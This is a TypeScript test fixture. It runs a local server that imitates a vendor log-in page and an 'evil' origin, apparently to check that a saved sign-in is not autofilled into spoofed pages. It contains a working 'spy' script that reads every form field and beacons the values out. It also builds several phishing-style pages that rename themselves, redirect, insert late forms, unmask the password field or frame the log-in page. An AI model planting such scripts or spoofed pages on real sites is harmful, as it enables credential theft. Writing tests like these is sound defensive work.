import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { SavedSignIn } from '../../core/navigation/saved-sign-in.ts';
import { bodyOf } from './body-of.ts';
import { freePort } from './free-port.ts';

/** A vendor's program with a log-in form of its own, and pages on its origin and on another that would like to have what belongs in it. */
export interface LogInProgram {
  readonly origin: string;
  readonly evil: string;
  /** What any page of either origin has seen in its fields, as `host/path user:password`. */
  readonly seen: readonly string[];
  /** Log-ins that were sent, as `user:password`. */
  readonly sent: readonly string[];
  /** Where the hub's saved sign-in goes. */
  readonly form: { readonly page: string[]; readonly userField: string; readonly passwordField: string; readonly submit: string };
  signIn(password?: string): SavedSignIn;
  stop(): Promise<void>;
}

export const vendorUser = 'amara.vendor';
export const vendorPassword = 'turtle "7" <pond>';

export async function startLogInProgram(): Promise<LogInProgram> {
  const port = await freePort();
  const [origin, evil] = [`http://vendor.localhost:${port}`, `http://evil.localhost:${port}`];
  const seen: string[] = [];
  const sent: string[] = [];
  const server = createServer((request, reply) => void answer(request, reply));
  const form = { page: [`${origin}/login`], userField: 'input[name="user"]', passwordField: '#password', submit: 'button[type="submit"]' };

  async function answer(request: IncomingMessage, reply: ServerResponse): Promise<void> {
    const url = new URL(request.url ?? '/', origin);
    const html = (body: string): void => {
      reply.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(`<!doctype html><title>Vendor</title>${body}`);
    };
    const go = (location: string, headers: Record<string, string> = {}): void => void reply.writeHead(302, { location, ...headers }).end();
    const body = request.method === 'POST' ? await bodyOf(request) : '';
    switch (`${request.method} ${url.pathname}`) {
      case 'POST /seen':
        seen.push(body);
        return void reply.writeHead(204).end();
      case 'POST /login': {
        const fields = new URLSearchParams(body);
        sent.push(`${fields.get('user')}:${fields.get('password')}`);
        const right = fields.get('user') === vendorUser && fields.get('password') === vendorPassword;
        return right ? go('/', { 'set-cookie': 'vendor=amara; HttpOnly; SameSite=None; Secure; Path=/' }) : html(`<p>Wrong.</p>${logIn}`);
      }
      case 'GET /':
        return request.headers.cookie?.includes('vendor=amara') === true ? html('<h1 id="opened">Hello</h1>') : go('/login');
      case 'GET /login':
        return url.searchParams.get('then') === 'server' ? go('/fake') : html(pages[url.searchParams.get('then') ?? ''] ?? logIn);
      case 'GET /fake':
        return html(logIn);
      case 'GET /renamed':
        return html(`<script>history.replaceState(null, '', '/login')</script>${logIn}`);
      case 'GET /frames':
        return html(`<h1>Frames</h1><iframe src="/login" width="400" height="200"></iframe><iframe src="${evil}/login" width="400" height="200"></iframe>`);
      default:
        return void reply.writeHead(404).end();
    }
  }

  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    origin,
    evil,
    seen,
    sent,
    form,
    signIn: (password = vendorPassword) => {
      const { page, ...fields } = form;
      return { pages: page, ...fields, username: vendorUser, password };
    },
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Tells of all that is in its fields. */
const spy = `<script>
  let last = '';
  const look = () => {
    const text = [...document.querySelectorAll('input')].map((field) => field.value).join(':');
    if (text !== last && text.length > 1) navigator.sendBeacon('/seen', location.host + location.pathname + ' ' + (last = text));
  };
  addEventListener('input', look, true);
  setInterval(look, 50);
</script>`;
const fields =
  '<input name="user" aria-label="User"><input id="password" name="password" type="password" aria-label="Password"><button type="submit">Log in</button>';
const logIn = `<h1>Log in</h1><form method="post" action="/login">${fields}</form>${spy}`;
const later = (script: string): string => `<h1>Log in</h1>${spy}<script>setTimeout(() => { ${script} }, 700)</script>`;
const insert = `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(`<form method="post" action="/login">${fields}</form>`)});`;

/** What may come of `/login`, by its query. */
const pages: Readonly<Record<string, string>> = {
  late: later(insert),
  script: later("location.replace('/fake')"),
  moved: later(`history.pushState(null, '', '/fake'); ${insert}`),
  open: later(insert.replace('type=\\"password\\"', 'type=\\"text\\"')),
  loop: `${logIn}<script>document.querySelector('form').addEventListener('submit', (event) => { event.preventDefault(); setTimeout(() => location.reload(), 200); });</script>`,
};

/** Pages that are to see nothing, by where a program begins. */
export const spyingPages: readonly { readonly title: string; readonly path: string }[] = [
  { title: 'a form like it at another path of the same origin', path: '/fake' },
  { title: 'a form at another path that calls itself the log-in page', path: '/renamed' },
  { title: 'a log-in page from which the server leads elsewhere', path: '/login?then=server' },
  { title: 'a log-in page that goes elsewhere before it has a form', path: '/login?then=script' },
  { title: 'a log-in page that calls itself otherwise before it has a form', path: '/login?then=moved' },
  { title: 'a form that shows the password in plain letters', path: '/login?then=open' },
  { title: 'the log-in page in a frame, or a frame of another origin', path: '/frames' },
];
